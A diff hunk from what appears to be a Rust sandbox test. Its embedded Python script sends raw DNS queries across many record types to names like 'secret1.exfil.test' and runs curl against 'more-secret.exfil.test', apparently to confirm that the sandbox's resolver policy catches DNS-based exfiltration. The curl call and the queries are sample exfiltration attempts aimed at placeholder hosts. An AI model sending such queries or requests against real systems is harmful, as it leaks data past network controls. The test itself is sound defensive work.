@@ -19,14 +19,17 @@ import socket, struct
 def query(name, kind):
     labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
-    s.sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1), ('8.8.8.8', 53))
+    head = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
+    s.sendto(head + labels + struct.pack('>HH', kind, 1), ('8.8.8.8', 53))
     try: return s.recv(4096)
     except TimeoutError: return None
 for kind in (1, 28, 16, 10, 15, 33, 65, 64, 255, 12, 6, 2, 257):
     query(f'secret{kind}.exfil.test', kind)
-query('secret.good.test.evil.test', 1); query('1.2.0.192.in-addr.arpa', 12); query('intranet', 1); query('foo.localhost', 1)
+query('secret.good.test.evil.test', 1); query('1.2.0.192.in-addr.arpa', 12)
+query('intranet', 1); query('foo.localhost', 1)
 import os
-os.system('curl -s --max-time 5 https://more-secret.exfil.test/ >/dev/null; getent hosts secret.exfil.test >/dev/null')
+os.system('curl -s --max-time 5 https://more-secret.exfil.test/ >/dev/null; '
+          'getent hosts secret.exfil.test >/dev/null')
 "#;
         lab.sandbox(&policy).resolver(server.address()).python(program).success();
         let strangers: Vec<_> =
